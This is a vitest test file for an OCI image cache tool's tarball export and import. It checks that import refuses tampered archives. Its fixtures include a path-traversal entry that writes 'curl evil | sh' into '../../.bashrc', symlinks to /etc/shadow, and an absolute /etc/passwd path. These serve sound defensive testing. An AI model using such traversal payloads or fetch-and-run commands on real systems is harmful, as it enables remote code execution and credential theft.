// The image cache tarball: its entries judged one by one, its table of contents read strictly, and
// export → import → pull --offline on caches filled with images built in memory, no registry at all.
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, readdir, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { END_OF_ARCHIVE, entryHeader, entryKind, padding, parseContents } from '../../src/oci/cache-archive.js';
import { exportCache } from '../../src/oci/cache-export.js';
import { importCache } from '../../src/oci/cache-import.js';
import { BlobCache } from '../../src/oci/cache.js';
import { CacheArchiveError } from '../../src/oci/errors.js';
import { pull } from '../../src/oci/pull.js';
import { eachEntry } from '../../src/oci/tar-reader.js';
import { parseReference } from '../../src/oci/reference.js';
import {
  cacheImage,
  cacheListing,
  contentsOf,
  memoryImage,
  readTarball,
  tamper,
  withContents,
  unpackedTree,
  type TarballEntry,
} from '../helpers/cache-tarball.js';

const HEX = 'a'.repeat(64);
const BUSYBOX = memoryImage('127.0.0.1:5000/library/busybox:1.36', 'busybox');
const OTHER = memoryImage('registry.lan:5000/team/tools:2', 'tools');

let base: string;
let count = 0;
const fresh = (name: string) => join(base, `${++count}-${name}`);
beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), 'ocilab-cache-archive-'));
});
afterAll(async () => {
  await rm(base, { recursive: true, force: true });
});

describe('the entries of a cache tarball', () => {
  it.each([
    [{ path: 'ocilab-cache.json', type: 'File' }, { kind: 'contents' }],
    [
      { path: `blobs/sha256/${HEX}`, type: 'File' },
      { kind: 'blob', digest: `sha256:${HEX}` },
    ],
    [
      { path: `blobs/sha256/${HEX}`, type: 'OldFile' },
      { kind: 'blob', digest: `sha256:${HEX}` },
    ],
    [{ path: `blobs/sha256/${HEX}`, type: 'SymbolicLink', linkpath: '/etc/shadow' }, 'a symbolic link (to /etc/shadow)'],
    [{ path: `blobs/sha256/${HEX}`, type: 'Link', linkpath: 'ocilab-cache.json' }, 'a hard link (to ocilab-cache.json)'],
    [{ path: 'blobs/sha256/null', type: 'CharacterDevice' }, 'a character device'],
    [{ path: 'blobs/', type: 'Directory' }, 'a directory'],
    [{ path: '../../.bashrc', type: 'File' }, "a path that climbs out with '..'"],
    [{ path: 'blobs/../../x', type: 'File' }, "a path that climbs out with '..'"],
    [{ path: '/etc/passwd', type: 'File' }, 'an absolute path'],
    [{ path: `blobs/sha256/${HEX.slice(1)}`, type: 'File' }, 'not part of an ocilab cache tarball'],
    [{ path: `blobs/sha256/${HEX.toUpperCase()}`, type: 'File' }, 'not part of an ocilab cache tarball'],
    [{ path: `blobs/md5/${HEX.slice(32)}`, type: 'File' }, 'not part of an ocilab cache tarball'],
    [{ path: 'README', type: 'File' }, 'not part of an ocilab cache tarball'],
  ])('%j is %j', (header, expected) => {
    const kind = entryKind(header);
    if (typeof expected === 'string') expect(kind).toEqual({ kind: 'refused', reason: expect.stringContaining(expected) as string });
    else expect(kind).toEqual(expected);
  });
});

describe('the table of contents', () => {
  const tag = {
    image: '127.0.0.1:5000/library/busybox:1.36',
    digest: `sha256:${HEX}`,
    mediaType: 'application/vnd.oci.image.manifest.v1+json',
  };
  const good = {
    'ocilab-cache': 1,
    blobs: [{ digest: `sha256:${HEX}`, size: 3 }],
    tags: [{ ...tag, size: 3, pulledAt: '2024-05-01T12:00:00Z' }],
  };
  const read = (json: unknown) => parseContents(Buffer.from(typeof json === 'string' ? json : JSON.stringify(json)), 'x.tar');

  it('reads blobs and tags, each tag with its reference', () => {
    const contents = read(good);
    expect(contents.blobs).toEqual(good.blobs);
    expect(contents.tags[0]?.ref).toMatchObject({ registry: '127.0.0.1:5000', repository: 'library/busybox', tag: '1.36' });
    expect(contents.tags[0]?.record).toEqual({
      digest: `sha256:${HEX}`,
      mediaType: tag.mediaType,
      size: 3,
      pulledAt: '2024-05-01T12:00:00Z',
    });
  });

  it.each([
    ['not JSON', '{"ocilab-cache": 1,', 'is not JSON'],
    [
      'a newer format',
      { ...good, 'ocilab-cache': 2 },
      'format 2 of ocilab cache tarballs, and this ocilab reads the format 1: upgrade ocilab',
    ],
    ['no format', { blobs: [], tags: [] }, '"ocilab-cache" is undefined, not 1'],
    ['an unknown field', { ...good, extra: true }, 'extra is not a field of ocilab-cache.json'],
    ['a blob with a bad digest', { ...good, blobs: [{ digest: 'sha256:abc', size: 3 }] }, 'blobs[0].digest is "sha256:abc", not a digest'],
    ['a negative size', { ...good, blobs: [{ digest: `sha256:${HEX}`, size: -1 }] }, 'blobs[0].size is -1'],
    ['a blob listed twice', { ...good, blobs: [good.blobs[0], good.blobs[0]] }, `the blob sha256:${HEX} is listed twice`],
    [
      'a short reference',
      { ...good, tags: [{ ...good.tags[0], image: 'busybox:1.36' }] },
      'tags[0].image is "busybox:1.36", not a reference in full',
    ],
    [
      'a reference by digest',
      { ...good, tags: [{ ...good.tags[0], image: `docker.io/library/busybox@sha256:${HEX}` }] },
      'not a reference in full with a tag',
    ],
    ['a bad reference', { ...good, tags: [{ ...good.tags[0], image: 'docker.io/Library/x:1' }] }, 'tags[0].image: '],
    ['a bad date', { ...good, tags: [{ ...good.tags[0], pulledAt: 'yesterday' }] }, 'tags[0].pulledAt is "yesterday", not a date'],
    ['a tag field too many', { ...good, tags: [{ ...good.tags[0], path: '../x' }] }, 'tags[0].path is not a field'],
  ])('refuses %s, saying what is wrong', (_, json, problem) => {
    expect(() => read(json)).toThrow(CacheArchiveError);
    expect(() => read(json)).toThrow(problem);
  });

  it('lists every problem at once', () => {
    expect(() => read({ ...good, blobs: [{ digest: 'x', size: 'big' }], tags: 3 })).toThrow(
      /blobs\[0\]\.digest is "x", not a digest; blobs\[0\]\.size is "big", not a size in bytes; "tags" is not a list/,
    );
  });
});

/** A cache holding BUSYBOX and OTHER, exported whole to a tarball; both paths. */
async function exported(): Promise<{ cache: string; tarball: string }> {
  const cache = fresh('cache');
  await cacheImage(cache, BUSYBOX);
  await cacheImage(cache, OTHER);
  const tarball = fresh('all.tar');
  await exportCache(new BlobCache(cache), tarball);
  return { cache, tarball };
}

const offlinePull = async (cache: string, reference: string) => {
  const rootfs = fresh('rootfs');
  await pull(parseReference(reference), rootfs, { cacheDir: cache, offline: true });
  return unpackedTree(rootfs);
};

describe('export, then import into another cache', () => {
  it('gives a cache from which pull --offline unpacks the same tree', async () => {
    const { cache, tarball } = await exported();
    const other = fresh('other-cache');
    const result = await importCache(new BlobCache(other), tarball);
    expect(result).toMatchObject({ tags: [BUSYBOX.reference, OTHER.reference], blobs: 8, newBlobs: 8, newTags: 2 });
    for (const image of [BUSYBOX, OTHER])
      expect(await offlinePull(other, image.reference)).toEqual(await offlinePull(cache, image.reference));
    expect((await cacheListing(other)).get(`refs/127.0.0.1:5000/library/busybox/_tags/1.36`)?.content).toBe(
      (await cacheListing(cache)).get(`refs/127.0.0.1:5000/library/busybox/_tags/1.36`)?.content,
    );
  });

  it('writes the same bytes for the same cache, so a copy of it changes nothing', async () => {
    const { cache, tarball } = await exported();
    const again = fresh('again.tar');
    await exportCache(new BlobCache(cache), again);
    expect(await readFile(again)).toEqual(await readFile(tarball));
  });

  it('of one image holds only the blobs it reaches and its tag', async () => {
    const { cache } = await exported();
    const tarball = fresh('one.tar');
    const result = await exportCache(new BlobCache(cache), tarball, { images: [parseReference(OTHER.reference)] });
    expect(result).toMatchObject({ tags: [OTHER.reference], blobs: 4 });
    const entries = readTarball(await readFile(tarball));
    const blobs = [OTHER.manifest, OTHER.config, ...OTHER.layers].map((b) => `blobs/sha256/${b.digest.slice(7)}`);
    expect(entries.map((e) => e.path)).toEqual(['ocilab-cache.json', ...blobs]);
    expect(contentsOf(entries).tags.map((t) => t.image)).toEqual([OTHER.reference]);
  });

  it('imports the tarball gzipped too', async () => {
    const { tarball } = await exported();
    const gzipped = fresh('all.tar.gz');
    await writeFile(gzipped, gzipSync(await readFile(tarball)));
    expect(await importCache(new BlobCache(fresh('other-cache')), gzipped)).toMatchObject({ blobs: 8, newBlobs: 8, newTags: 2 });
  });

  it('names a sha512 blob in a PAX header, which reads back as written', async () => {
    const path = `blobs/sha512/${'b'.repeat(128)}`;
    const tar = Buffer.concat([entryHeader(path, 3), Buffer.from('abc'), padding(3), END_OF_ARCHIVE]);
    const seen: string[] = [];
    await eachEntry(
      (async function* () {
        yield tar;
      })(),
      async (entry) => {
        seen.push(`${entry.path} ${entry.type} ${entry.size}`);
        await Promise.resolve();
      },
      (message) => new Error(message),
    );
    expect(seen).toEqual([`${path} File 3`]);
    expect(entryKind({ path, type: 'File' })).toEqual({ kind: 'blob', digest: `sha512:${'b'.repeat(128)}` });
  });

  it('imported twice, changes nothing the second time', async () => {
    const { tarball } = await exported();
    const other = fresh('other-cache');
    await importCache(new BlobCache(other), tarball);
    const before = await cacheListing(other);
    expect(await importCache(new BlobCache(other), tarball)).toMatchObject({ newBlobs: 0, newTags: 0, blobs: 8 });
    expect(await cacheListing(other)).toEqual(before);
  });

  it('moves a tag the cache had naming another image, and says so', async () => {
    const { tarball } = await exported();
    const other = fresh('other-cache');
    await cacheImage(other, { ...OTHER, reference: BUSYBOX.reference });
    const notes: string[] = [];
    expect(await importCache(new BlobCache(other), tarball, { onNote: (n) => notes.push(n) })).toMatchObject({ newTags: 2 });
    expect(notes).toEqual([
      `The tag ${BUSYBOX.reference} named ${OTHER.manifest.digest} in this cache; it names ${BUSYBOX.manifest.digest} now, as in the tarball.`,
    ]);
  });
});

const layerName = `blobs/sha256/${BUSYBOX.layers[1]?.digest.slice(7) ?? ''}`;
const configName = `blobs/sha256/${BUSYBOX.config.digest.slice(7)}`;
const rename = (entries: TarballEntry[], from: string, to: string) => entries.map((e) => (e.path === from ? { ...e, path: to } : e));
const flipByte = (entries: TarballEntry[]) =>
  entries.map((e) => {
    if (e.path !== layerName || !e.body) return e;
    const body = Buffer.from(e.body);
    body[10] = (body[10] ?? 0) ^ 0xff;
    return { ...e, body };
  });
const evil = 'f'.repeat(64);

describe('a tampered tarball', () => {
  it.each<[string, (entries: TarballEntry[]) => TarballEntry[], string]>([
    ['one byte of a layer changed', flipByte, `the blob ${layerName} is not what its name says: its content has the digest sha256:`],
    [
      'a blob renamed to another digest, in its table of contents too',
      (entries) => {
        const contents = contentsOf(entries);
        const target = `sha256:${evil}`;
        contents.blobs = contents.blobs.map((b) => (b.digest === BUSYBOX.config.digest ? { ...b, digest: target } : b));
        return rename(withContents(entries, contents), configName, `blobs/sha256/${evil}`);
      },
      `the blob blobs/sha256/${evil} is not what its name says: its content has the digest ${BUSYBOX.config.digest}`,
    ],
    [
      'a blob renamed to a digest its table of contents does not list',
      (entries) => rename(entries, configName, `blobs/sha256/${evil}`),
      `it holds the blob blobs/sha256/${evil}, which its ocilab-cache.json does not list`,
    ],
    [
      'an entry with ../',
      (entries) => [...entries, { path: '../../.bashrc', type: 'file', body: Buffer.from('curl evil | sh\n') }],
      "the entry ../../.bashrc is a path that climbs out with '..'",
    ],
    [
      'a symbolic link in place of a blob',
      (entries) => entries.map((e) => (e.path === layerName ? { path: layerName, type: 'symlink', target: '/etc/shadow' } : e)),
      `the entry ${layerName} is a symbolic link (to /etc/shadow)`,
    ],
    [
      'a device',
      (entries) => [...entries, { path: 'blobs/sha256/null', type: 'char', major: 1, minor: 3 }],
      'the entry blobs/sha256/null is a character device',
    ],
    [
      'a file of another kind',
      (entries) => [...entries, { path: 'install.sh', type: 'file', body: Buffer.from('#!/bin/sh\n') }],
      'the entry install.sh is not part of an ocilab cache tarball',
    ],
    [
      'a tag record pointing to a manifest that is nowhere',
      (entries) => {
        const contents = contentsOf(entries);
        contents.tags = contents.tags.map((t) => (t.image === OTHER.reference ? { ...t, digest: `sha256:${evil}` } : t));
        return withContents(entries, contents);
      },
      `the tag ${OTHER.reference} in its ocilab-cache.json names the manifest sha256:${evil}, which is neither in the tarball nor in the cache`,
    ],
    ['a blob left out', (entries) => entries.filter((e) => e.path !== layerName), `it ends before the blob ${layerName}: it was cut short`],
    ['a blob twice', (entries) => [...entries, ...entries.filter((e) => e.path === layerName)], `it holds the blob ${layerName} twice`],
    [
      'blobs before the table of contents',
      (entries) => [...entries.slice(1), ...entries.slice(0, 1)],
      'it is not an ocilab image cache tarball: it starts with blobs/sha256/',
    ],
    [
      'a table of contents that is not JSON',
      (entries) => entries.map((e, i) => (i === 0 ? { ...e, body: Buffer.from('{') } : e)),
      'its ocilab-cache.json is not JSON',
    ],
  ])('is refused when it has %s, naming the entry, with nothing imported', async (_, change, message) => {
    const { tarball } = await exported();
    const bad = fresh('bad.tar');
    await tamper(tarball, bad, change);
    for (const target of [fresh('empty-cache'), await withBusybox()]) {
      const before = await cacheListing(target);
      const refused = await importCache(new BlobCache(target), bad).then(
        () => undefined,
        (error: unknown) => error,
      );
      expect(refused).toBeInstanceOf(CacheArchiveError);
      expect((refused as Error).message).toContain(`ocilab refused ${bad}: `);
      expect((refused as Error).message).toContain(message);
      expect((refused as Error).message).toMatch(/Nothing of it was imported\.$/);
      expect(await cacheListing(target)).toEqual(before);
    }
  });

  it('is refused when cut short in the middle of a blob, with nothing imported', async () => {
    const { tarball } = await exported();
    await truncate(tarball, (await readFile(tarball)).length - 3000);
    const target = fresh('cache');
    await expect(importCache(new BlobCache(target), tarball)).rejects.toThrow(
      /it is not a valid tar archive \(.*\); it may have been cut short/,
    );
    expect(existsSync(target)).toBe(false);
  });

  it('is refused when it is no tar archive at all', async () => {
    const file = fresh('notes.txt');
    await writeFile(file, 'just some notes\n'.repeat(100));
    await expect(importCache(new BlobCache(fresh('cache')), file)).rejects.toThrow(`ocilab refused ${file}: it`);
  });
});

/** A cache that already holds BUSYBOX, to show a refused import adds nothing to a cache in use. */
async function withBusybox(): Promise<string> {
  const cache = fresh('busy-cache');
  await cacheImage(cache, BUSYBOX);
  return cache;
}

describe('export of a cache that is not whole', () => {
  it('stops at a damaged blob, removes it from the cache, names the image, and writes nothing', async () => {
    const cache = await withBusybox();
    const layer = BUSYBOX.layers[0]?.digest ?? '';
    const path = new BlobCache(cache).blobPath(layer);
    const bytes = await readFile(path);
    bytes[5] = (bytes[5] ?? 0) ^ 1;
    await writeFile(path, bytes);
    const dir = fresh('out');
    await import('node:fs/promises').then((fs) => fs.mkdir(dir));
    const tarball = join(dir, 'images.tar');
    await expect(exportCache(new BlobCache(cache), tarball, { images: [parseReference(BUSYBOX.reference)] })).rejects.toThrow(
      new RegExp(
        `^The blob ${layer} in the cache \\(.*\\) is damaged: its content has the digest sha256:[0-9a-f]{64}\\. ocilab removed it from the cache, and wrote nothing to ${tarball}\\. Pull ${BUSYBOX.reference.replace(/\./g, '\\.')} again`,
      ),
    );
    expect(existsSync(path)).toBe(false);
    expect(await readdir(dir)).toEqual([]);
  });

  it('refuses an image it holds only part of when it is named, and leaves out its tag otherwise', async () => {
    const cache = await withBusybox();
    await cacheImage(cache, OTHER);
    await new BlobCache(cache).remove(OTHER.layers[0]?.digest ?? '');
    await expect(exportCache(new BlobCache(cache), fresh('x.tar'), { images: [parseReference(OTHER.reference)] })).rejects.toThrow(
      `Cannot export ${OTHER.reference}: the cache (${cache}) holds only part of ${OTHER.reference}: not 1 of its 3 blobs (${OTHER.layers[0]?.digest ?? ''})`,
    );
    const notes: string[] = [];
    const result = await exportCache(new BlobCache(cache), fresh('all.tar'), { onNote: (n) => notes.push(n) });
    expect(result.tags).toEqual([BUSYBOX.reference]);
    expect(notes).toEqual([
      expect.stringMatching(new RegExp(`^Left out the tag ${OTHER.reference}: the cache .* holds only part of`)) as string,
    ]);
  });

  it('refuses an image the cache does not hold, saying how to pull it', async () => {
    const cache = await withBusybox();
    await expect(
      exportCache(new BlobCache(cache), fresh('x.tar'), { images: [parseReference('docker.io/library/alpine:3')] }),
    ).rejects.toThrow(
      `The cache (${cache}) does not hold docker.io/library/alpine:3: pull it first (\`ocilab pull docker.io/library/alpine:3 --rootfs DIR\`)`,
    );
  });
});
